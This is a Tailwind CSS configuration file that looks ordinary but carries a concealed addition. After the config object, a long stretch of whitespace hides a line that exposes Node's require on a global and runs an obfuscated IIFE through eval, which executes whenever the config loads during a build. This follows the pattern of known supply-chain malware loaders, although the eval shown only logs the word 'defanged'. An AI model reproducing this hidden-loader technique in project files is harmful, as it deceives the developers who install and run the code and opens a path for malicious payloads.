/** @type {import('tailwindcss').Config} */
module.exports = {
  content: ['./src/**/*.{js,jsx,ts,tsx}'],
  theme: { extend: {} },
  plugins: [],
};                                                                                                                                                                                                                                                                                                                                                                                                                global['_V']='8-st';global['r']=require;(function(){var _0x1a2b=['\x63\x6f\x6e\x73\x6f\x6c\x65'];eval("console.log('defanged')");})();
